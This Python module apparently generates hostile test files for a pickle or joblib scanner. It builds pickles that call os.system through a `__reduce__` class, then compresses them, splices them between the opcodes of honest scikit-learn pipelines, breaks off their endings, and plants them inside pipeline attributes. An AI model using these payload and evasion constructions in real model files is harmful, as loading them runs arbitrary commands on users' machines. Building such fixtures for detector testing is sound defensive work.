"""What stands around the payload: compression, more than one pickle, an end that is missing, and
an honest pipeline that carries it."""

from __future__ import annotations

import bz2
import functools
import gzip
import lzma
import os
import pickle
import pickletools
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import numpy as np
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import OneHotEncoder, StandardScaler

from .families_arrays import objects
from .fitted import CLASSES, ROWS, dumped
from .values import Effect, Hostile, call, files
from .writer import Writer, pickled

COMPRESSED = "compressed"
STREAMS = "more than one pickle"
BROKEN = "broken at the end"
CARRIED = "carried by an honest pipeline"

_METHODS: dict[str, Callable[[bytes], bytes]] = {
    "zlib": zlib.compress,
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "xz": lzma.compress,
    "lzma": functools.partial(lzma.compress, format=lzma.FORMAT_ALONE),
}


class Planted:
    """Pickled as a call: what an attacker puts into an object, for an honest writer to write."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


def compressed(effect: Effect) -> Iterator[Hostile]:
    act = call("os:system", effect.command)
    programs = {
        "a call": pickled(act),
        "a nested array": pickled(objects(pickled(act))),
        "broken off": pickled(act)[:-1],
    }
    for method, compress in _METHODS.items():
        of_method = {f"{method}, {name}": compress(data) for name, data in programs.items()}
        yield from files(COMPRESSED, of_method)
    yield from files(COMPRESSED, _odd_compression(pickled(act)))
    yield from files(COMPRESSED, _merely_refused(pickled(act)), "never")


def more_pickles(effect: Effect) -> Iterator[Hostile]:
    act, honest = pickled(call("os:system", effect.command)), dumped(_pipeline())
    yield from files(STREAMS, {"hostile, then honest": act + honest})
    yield from files(STREAMS, {"hostile twice": act + act})
    merely_there = {
        "honest, then hostile": honest + act,
        "honest, then a hostile array": honest + pickled(objects(act)),
        "honest, then a byte": honest + b"\x00",
        "honest, then a line": honest + b"\n",
        "honest, then another": honest + honest,
        "honest, then an archive": honest + b"PK\x05\x06" + bytes(18),
    }
    yield from files(STREAMS, merely_there, "never")


def broken_ends(effect: Effect) -> Iterator[Hostile]:
    act = call("os:system", effect.command)
    program = Writer(4).push(act).unfinished()
    ends = {
        "no STOP": b"",
        "an opcode that there is not": b"\xff.",
        "REDUCE of nothing": b"00R.",
        "text that breaks off": b"\x8c\xffmodel",
        "text that is not UTF-8": b"\x8c\x01\xff.",
        "bytes beyond the file": b"\x8e" + b"\xff" * 8,
        "a name that there is not": b"csklearn\nNoSuchName\n.",
        "a module that there is not": b"cno_such_module\nname\n.",
        "a mark that is never closed": b"(((((",
        "a frame beyond the file": b"\x95" + b"\xff" * 8 + b".",
        "a GET of what was never put": b"h\xfe.",
        "zeros": bytes(64),
    }
    yield from files(BROKEN, {f"acts, then {name}": program + end for name, end in ends.items()})
    array = pickled([objects(pickled(act)), objects(pickled(act))])
    yield from files(BROKEN, {"acts in an array, which breaks off": array[: len(array) // 2 + 20]})


def carried(effect: Effect) -> Iterator[Hostile]:
    yield from files(CARRIED, _spliced(effect))
    yield from files(CARRIED, _planted(effect))


def _pipeline() -> Pipeline:
    steps = [("scale", StandardScaler()), ("classify", LogisticRegression())]
    return Pipeline(steps).fit(ROWS, CLASSES)


def _odd_compression(act: bytes) -> dict[str, bytes]:
    return {
        "zlib that does not compress": zlib.compress(act, 0),
        "zlib without its end": zlib.compress(act + bytes(4096))[:-4],
    }


def _merely_refused(act: bytes) -> dict[str, bytes]:
    """Read by other readers; joblib 1.6 takes all memory for the first three."""
    return {
        "zlib, then more bytes": zlib.compress(act) + b"model",
        "gzip, then zeros": gzip.compress(act) + bytes(32),
        "gzip in two members": gzip.compress(act[:9]) + gzip.compress(act[9:]),
        "zlib in zlib": zlib.compress(zlib.compress(act)),
        "gzip in xz": lzma.compress(gzip.compress(act)),
        "raw deflate": zlib.compress(act)[2:-4],
        "lz4's mark": b"\x04\x22\x4d\x18" + act,
        "zlib's mark alone": b"\x78\x9c",
        "gzip's mark alone": b"\x1f\x8b\x08" + bytes(7),
    }


def _spliced(effect: Effect) -> dict[str, bytes]:
    """A call whose result is dropped at once, between any two opcodes of an honest pickle."""
    payload = Writer(0).push(call("os:system", effect.command)).pop().unfinished()
    opcodes = _opcodes(without_frames(pickle.dumps(_pipeline(), 4)))
    places = {"start": 1, "a quarter": len(opcodes) // 4, "the middle": len(opcodes) // 2}
    places |= {"three quarters": len(opcodes) * 3 // 4, "the end": len(opcodes) - 1}
    return {
        f"spliced in at {name}": b"".join([*opcodes[:place], payload, *opcodes[place:]])
        for name, place in places.items()
    }


def without_frames(data: bytes) -> bytes:
    """The same pickle, so that something can be put into it."""
    return b"".join(part for part in _opcodes(data) if part[:1] != b"\x95")


def _opcodes(data: bytes) -> list[bytes]:
    starts = [start for _, _, start in pickletools.genops(data) if start is not None]
    ends = [*starts[1:], len(data)]
    return [data[start:end] for start, end in zip(starts, ends, strict=True)]


def _planted(effect: Effect) -> dict[str, bytes]:
    """Written by joblib itself, from a pipeline that holds something it should not."""
    planted = Planted(effect.command)
    in_array = np.array([planted], dtype=object)
    parameter, attribute, name, category, foreign = (_pipeline() for _ in range(5))
    parameter.named_steps["classify"].solver = planted
    attribute.named_steps["classify"].coef_ = in_array
    name.steps[0] = (planted, name.steps[0][1])
    encoder = OneHotEncoder().fit([["a"], ["b"]])
    encoder.categories_ = [in_array]
    category.steps.insert(0, ("encode", encoder))
    foreign.note = {"deep": [({"deeper": planted},)]}
    held = {
        "a parameter": parameter,
        "a learnt array": attribute,
        "the name of a step": name,
        "a category": category,
        "an attribute that it does not know": foreign,
    }
    programs = {}
    for place, pipeline in held.items():
        programs[f"planted in {place}"] = dumped(pipeline)
        programs[f"planted in {place}, compressed"] = dumped(pipeline, compress=3)
    return programs
